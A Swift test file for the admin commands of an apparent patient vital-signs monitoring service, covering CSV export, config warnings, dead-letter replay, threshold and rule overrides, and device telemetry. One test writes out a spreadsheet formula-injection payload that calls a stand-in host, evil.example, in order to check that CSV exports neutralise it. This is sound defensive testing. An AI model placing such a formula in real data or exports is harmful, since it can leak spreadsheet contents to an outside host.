import Foundation
import Testing
import VitalsDomain
import VitalsFormats
import VitalsStore

/// The admin commands, run as an operator would run them.
@Suite("admin commands")
struct CommandLineTests {
    /// Runs `vitalsd ARGUMENTS --config …`.
    /// - Returns: the exit code, standard error (`output`) and standard output.
    func run(_ env: TestEnvironment, _ arguments: [String], environment: [String: String] = [:]) async throws
        -> (code: Int32?, output: String, stdout: String)
    {
        let log = env.directory + "/cli-\(UUID().uuidString.prefix(6))"
        let p = try ChildProcess(path: try vitalsdBinary(), arguments: arguments + ["--config", env.configPath], logPath: log + ".err",
                                 outputPath: log + ".out", extraEnvironment: environment)
        _ = await p.waitForExit(seconds: 120)
        return (p.exitCode, (try? String(contentsOfFile: log + ".err", encoding: .utf8)) ?? "",
                (try? String(contentsOfFile: log + ".out", encoding: .utf8)) ?? "")
    }

    @Test("CSV exports neutralise formulas: an actor =HYPERLINK(...) is text in audit list --format csv")
    func csvInjection() async throws {
        let env = try TestEnvironment()
        let actor = #"=HYPERLINK("http://evil.example/?"&A1,"open")"#
        #expect(try await run(env, ["patient", "add", "--id", "csv1", "--timezone", "UTC", "--program", "diabetes", "--by", actor]).code == 0)
        let audit = try await run(env, ["audit", "list", "--format", "csv"])
        #expect(audit.code == 0)
        // Quoted (it holds commas and quotes), with the leading ' that makes it text.
        #expect(audit.stdout.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""open"")","#), "\(audit.stdout)")
        #expect(!audit.stdout.contains(#","=HYPERLINK"#))
    }

    @Test("config check prints a threshold whose unit is ambiguous as a warning, and passes")
    func configWarning() async throws {
        let env = try TestEnvironment(extraYAML: "thresholds:\n  defaults:\n    body_weight: {critical_high: 250}\n")
        let r = try await run(env, ["config", "check"])
        #expect(r.code == 0)
        #expect(r.output.contains("warning: thresholds.defaults.body_weight.critical_high: 250 is read as 250 kg, but as [lb_av]"), "\(r.output)")
        #expect(r.stdout.contains("configuration ok: \(env.configPath) (1 warnings)"))
    }

    @Test("dead-letters replay stores the readings of a device enrolled later, once")
    func deadLetterReplay() async throws {
        let env = try TestEnvironment()
        let ms = msAgo(3_600)
        _ = try env.database.ingestBlocking(
            [IncomingMessage(topic: "devices/late1/readings", deviceID: "late1", payload: glucoseJSON(120, at: ms), receivedAt: Date())],
            pipeline: IngestPipeline(thresholds: .clinicalDefaults))
        try env.database.upsertDevice(Device(id: "late1", kind: .glucometer, patientID: "p1"), actor: "test")
        let first = try await run(env, ["dead-letters", "replay", "--reason", "unknown_device", "--since", "2020-01-01", "--by", "ops.a"])
        #expect(first.code == 0, "\(first.output)")
        #expect(first.stdout.contains("replayed 1 messages (1 dead letters): 1 readings stored, 0 already stored, 0 tasks opened"), "\(first.stdout)")
        #expect(first.stdout.contains("resolved: 1; still failing: none; new dead letters: none"))
        let again = try await run(env, ["dead-letters", "replay"])
        #expect(again.stdout.contains("replayed 0 messages (0 dead letters): 0 readings stored"), "\(again.stdout)")
        #expect(try env.statistics().readings == 1)
        let bad = try await run(env, ["dead-letters", "replay", "--since", "yesterday"])
        #expect(bad.code != 0 && bad.output.contains("--since must be RFC 3339 or YYYY-MM-DD"))
    }

    @Test("a patient limit that would cross the program's other limit is refused")
    func inconsistentThreshold() async throws {
        let env = try TestEnvironment()
        // Default glucose critical_low is 54: a warning_low of 50 would sit below it.
        let refused = try await run(env, ["threshold", "set", "--patient", "p1", "--type", "glucose", "--level", "warning",
                                          "--direction", "low", "--value", "50", "--by", "dr.x"])
        #expect(refused.code != 0)
        #expect(refused.output.contains("warning_low must not be below critical_low"))
        #expect(try env.database.thresholdOverrides(patientID: "p1").isEmpty)
        // 3.3 mmol/L = 59.4594 mg/dL is a valid warning_low.
        let ok = try await run(env, ["threshold", "set", "--patient", "p1", "--type", "glucose", "--level", "warning",
                                     "--direction", "low", "--value", "3.3", "--unit", "mmol/L", "--by", "dr.x"])
        #expect(ok.code == 0)
        #expect(try env.database.thresholdOverrides(patientID: "p1").values.first == 59.4594)
    }

    @Test("a trend rule can be changed or switched off for one patient, never for a rule that does not apply")
    func ruleOverride() async throws {
        let env = try TestEnvironment()
        // p1 is in program diabetes: the heart-failure weight rules do not apply.
        let refused = try await run(env, ["threshold", "rule", "--patient", "p1", "--rule", "weight_gain_7d", "--off"])
        #expect(refused.code != 0)
        #expect(refused.output.contains("no rule 'weight_gain_7d' applies to patient p1; rules in force: none"))
        try env.database.upsertPatient(Patient(id: "hf2", timezone: "UTC", programs: [.heartFailure]), actor: "test")
        let ok = try await run(env, ["threshold", "rule", "--patient", "hf2", "--rule", "weight_gain_7d", "--bound", "2", "--by", "dr.x"])
        #expect(ok.code == 0)
        #expect(try env.database.ruleOverrides(patientID: "hf2")["weight_gain_7d"] == RuleOverride(bound: 2, disabled: false))
        let negative = try await run(env, ["threshold", "rule", "--patient", "hf2", "--rule", "weight_gain_7d", "--bound=-1"])
        #expect(negative.output.contains("a delta bound must be above 0"))
        _ = try await run(env, ["threshold", "rule", "--patient", "hf2", "--rule", "weight_gain_7d", "--clear"])
        #expect(try env.database.ruleOverrides(patientID: "hf2").isEmpty)
        #expect(try env.database.auditEntries().contains { $0.action == "rule.override" })
    }

    @Test("device status and device events list telemetry and sentinels, which are not readings")
    func deviceStatusAndEvents() async throws {
        let env = try TestEnvironment()
        let payload = #"[{"metric":"blood_pressure","hwi_device_id":"g1","value_1":2047,"value_2":2047,"timestamp":"2026-01-05T10:00:00Z"},{"metric":"battery_percentage","hwi_device_id":"g1","value_1":"64","timestamp":"2026-01-05T10:00:00Z"}]"#
        let summary = try env.database.ingestBlocking(
            [IncomingMessage(topic: "vendors/tenovi", deviceID: nil, payload: Array(payload.utf8), receivedAt: Date(),
                             format: .tenovi, matchedSubscription: true)],
            pipeline: IngestPipeline(thresholds: .clinicalDefaults))
        #expect(summary.deviceEvents == 2 && summary.deviceStatusUpdated == 1 && summary.readingsStored == 0)
        // The commands run (their table goes to standard output, which `run` discards) …
        #expect(try await run(env, ["device", "status", "--device", "g1"]).code == 0)
        #expect(try await run(env, ["device", "events", "--format", "csv"]).code == 0)
        // … over these rows.
        let status = try env.database.deviceStatus(deviceID: "g1")
        #expect(status.map(\.name) == ["battery_percent"] && status.map(\.value) == [64])
        let events = try env.database.deviceEvents().map { "\($0.kind) \($0.type ?? "-") \($0.code)" }
        #expect(Set(events) == ["device_error systolic_bp sfloat_nan", "device_error diastolic_bp sfloat_nan"])
    }
}
